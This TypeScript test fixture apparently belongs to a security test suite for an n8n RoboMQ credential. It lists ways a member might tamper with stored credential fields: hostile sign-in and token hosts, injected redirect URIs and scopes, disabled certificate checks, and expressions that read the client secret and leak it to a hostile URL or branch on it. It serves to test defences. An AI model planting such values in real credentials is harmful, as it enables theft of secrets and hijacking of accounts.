/** One way of storing something in a RoboMQ credential, over REST, as an ordinary member of the n8n. */
export interface Way {
	name: string;
	/** @param hostile an origin of the member's own */
	data: (hostile: string) => Record<string, unknown>;
	/** Whether the account can be linked and sends: then what was stored is without effect. */
	works: boolean;
}

const SECRET = '$self["clientSecret"]';

export const WAYS: readonly Way[] = [
	{ name: 'nothing', data: () => ({}), works: true },
	{
		name: 'a custom cloud with hosts',
		data: (hostile) => ({ cloudInstance: 'custom', loginHost: hostile, graphHost: hostile }),
		works: true,
	},
	{
		name: 'a custom cloud with a sign-in host only',
		data: (hostile) => ({ cloudInstance: 'custom', loginHost: hostile }),
		works: true,
	},
	{ name: 'another cloud', data: () => ({ cloudInstance: 'usGovDod' }), works: true },
	{
		name: 'sign-in URLs',
		data: (hostile) => ({
			authUrl: `${hostile}/common/oauth2/v2.0/authorize`,
			accessTokenUrl: `${hostile}/common/oauth2/v2.0/token`,
		}),
		works: true,
	},
	{
		name: 'a token URL only',
		data: (hostile) => ({ accessTokenUrl: `${hostile}/common/oauth2/v2.0/token` }),
		works: true,
	},
	{
		name: 'Graph and resource URLs',
		data: (hostile) => ({
			graphUrl: hostile,
			baseUrl: hostile,
			resourceUrl: hostile,
			url: hostile,
		}),
		works: true,
	},
	{ name: 'a server URL', data: (hostile) => ({ serverUrl: hostile }), works: true },
	{
		name: 'dynamic client registration',
		data: (hostile) => ({
			useDynamicClientRegistration: true,
			serverUrl: hostile,
			accessTokenUrl: `${hostile}/token`,
		}),
		works: true,
	},
	{
		name: 'client credentials in a header',
		data: (hostile) => ({
			grantType: 'clientCredentials',
			authentication: 'header',
			accessTokenUrl: `${hostile}/token`,
		}),
		works: true,
	},
	{
		name: 'a grant type without proof',
		data: () => ({ grantType: 'pkce', usePkce: false }),
		works: true,
	},
	{
		name: 'a wider scope',
		data: () => ({ scope: 'Mail.Send Mail.ReadWrite offline_access' }),
		works: false,
	},
	{ name: 'permissions', data: () => ({ permissions: ['Mail.ReadWrite'] }), works: true },
	{
		name: 'a tenant ID with a host in it',
		data: (hostile) => ({ tenantId: `x@${new URL(hostile).host}/common` }),
		works: true,
	},
	{
		name: 'lists of allowed domains',
		data: (hostile) => ({
			allowedHttpRequestDomains: 'all',
			allowedDomains: new URL(hostile).hostname,
		}),
		works: true,
	},
	{
		name: 'additional body properties',
		data: (hostile) => ({
			sendAdditionalBodyProperties: true,
			additionalBodyProperties: JSON.stringify({ scope: 'Mail.ReadWrite', redirect_uri: hostile }),
		}),
		works: true,
	},
	{
		name: 'query parameters of the sign-in',
		data: (hostile) => ({
			authQueryParameters: `redirect_uri=${hostile}&scope=Mail.ReadWrite&client_id=x`,
		}),
		works: true,
	},
	{
		name: 'a connection without certificate checks',
		data: () => ({ ignoreSSLIssues: true, tokenExpiredStatusCode: 202, jweEnabled: true }),
		works: true,
	},
	{
		name: 'a token with a resource and a host',
		data: (hostile) => ({
			oauthTokenData: {
				access_token: 'stored',
				refresh_token: 'stored',
				resource: hostile,
				accessTokenUrl: `${hostile}/token`,
			},
		}),
		works: true,
	},
	{ name: 'a client ID of their own', data: () => ({ clientId: 'other' }), works: false },
	{
		name: 'a client secret of their own',
		data: () => ({ clientSecret: 'other' }),
		works: false,
	},
	{
		name: 'a certificate of their own',
		data: () => ({ clientCredentialType: 'certificate', privateKey: 'x', certificate: 'x' }),
		works: false,
	},
	{
		name: 'an expression as the client ID',
		data: () => ({ clientId: `={{ ${SECRET} }}` }),
		works: false,
	},
	{
		name: 'an expression in a list as the client ID',
		data: () => ({ clientId: ['x', `={{ ${SECRET} }}`] }),
		works: false,
	},
	{
		name: 'an expression behind a second = as the client ID',
		data: () => ({ clientId: `=={{ ${SECRET} }}` }),
		works: false,
	},
	{
		name: 'an expression in the query of the sign-in',
		data: () => ({ authQueryParameters: `={{ "x=" + ${SECRET} }}` }),
		works: false,
	},
	{
		name: 'an expression in the server URL',
		data: (hostile) => ({ serverUrl: `={{ "${hostile}/" + ${SECRET} }}` }),
		works: true,
	},
	{
		name: 'an expression in the scope',
		data: () => ({ scope: `={{ ${SECRET} }}` }),
		works: false,
	},
	{
		name: 'an expression as the tenant ID',
		data: () => ({ tenantId: `={{ ${SECRET}.replace("~", "").toLowerCase() + ".example" }}` }),
		works: false,
	},
	{
		name: 'an expression in Allowed Recipients, which n8n takes as a text',
		data: () => ({ allowedRecipients: `={{ ${SECRET} }}` }),
		works: false,
	},
	{
		name: 'an expression in Allowed Recipients',
		data: () => ({
			// n8n drops the first = of a field that takes no expression.
			allowedRecipients: `=={{ ${SECRET}[0] === "r" ? "contoso.example" : "evil.example" }}`,
		}),
		works: false,
	},
	{
		name: 'an expression beside the token',
		data: () => ({ oauthTokenData: { access_token: 'x', note: `={{ ${SECRET} }}` } }),
		works: true,
	},
	{
		name: 'an expression inside the token',
		data: () => ({ oauthTokenData: { access_token: 'x', resource: `={{ ${SECRET} }}` } }),
		works: false,
	},
];
